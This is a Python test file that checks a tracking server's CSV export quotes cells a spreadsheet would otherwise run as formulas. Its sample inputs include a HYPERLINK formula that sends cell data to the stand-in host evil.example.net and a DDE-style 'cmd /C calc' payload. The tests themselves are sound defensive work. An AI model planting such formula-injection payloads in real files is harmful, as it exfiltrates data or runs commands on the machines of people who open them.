"""CSV exports: text a spreadsheet would run as a formula opens as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from hypothesis import given
from hypothesis import strategies as st

from pixel_server.config import Settings
from pixel_server.reports.base import Table
from pixel_server.reports.export import to_csv
from tests.ingest_helpers import (
    BROWSER_UA,
    ORIGIN,
    add_pixel,
    api_body,
    api_headers,
    app_client,
    runtime_of,
    wait_for_rows,
)

HOSTILE = '=HYPERLINK("https://evil.example.net/?x="&A1,"click")'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@given(st.sampled_from("=+-@\t\r"), st.text(max_size=30))
def test_a_text_cell_starting_like_a_formula_gets_a_quote(first: str, rest: str) -> None:
    rows = read(to_csv(Table(["id"], [[first + rest]])))
    assert rows[1][0] == "'" + first + rest


@given(
    st.text(max_size=30).filter(
        lambda s: "\x00" not in s and not s.startswith(("=", "+", "-", "@", "\t", "\r"))
    )
)
def test_other_text_is_kept_as_it_is(text: str) -> None:
    assert read(to_csv(Table(["id", "n"], [[text, 1]])))[1] == [text, "1"]


def test_numbers_we_format_stay_numbers() -> None:
    from decimal import Decimal

    rows = read(to_csv(Table(["refunded", "units"], [[Decimal("-12.50"), -1]])))
    assert rows[1] == ["-12.50", "-1"]


def test_a_product_id_sent_as_a_formula_opens_as_text(settings: Settings) -> None:
    # Yesterday noon UTC: one fixed day for the event and the report, at any hour.
    day_noon = datetime.now(UTC).replace(hour=12, minute=0, second=0) - timedelta(days=1)
    day = day_noon.date().isoformat()
    with app_client(settings) as client:
        pixel = add_pixel(runtime_of(client), name="Shop")
        purchase = {
            "event": "Purchase",
            "event_id": "purchase:1001",
            "event_time": day_noon.timestamp(),
            "properties": {"value": 10.0, "currency": "USD", "order_id": "1001",
                           "contents": [{"content_id": HOSTILE, "price": 10.0, "quantity": 1,
                                         "content_name": "@SUM(1+1)*cmd|' /C calc'!A0"}]},
        }  # fmt: skip
        answer = client.post(
            "/api/v1/events",
            json=api_body(pixel["id"], [purchase]),
            headers={**api_headers(pixel["api_key"]), "user-agent": BROWSER_UA, "origin": ORIGIN},
        )
        assert answer.status_code == 200, answer.text
        assert wait_for_rows(runtime_of(client), 1, pixel["id"]) == 1
        exported = client.get(
            f"/api/v1/reports/{pixel['id']}/products.csv",
            params={"from": day, "to": day, "tz": "UTC"},
            headers={"authorization": f"Bearer {pixel['owner_token']}"},
        )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
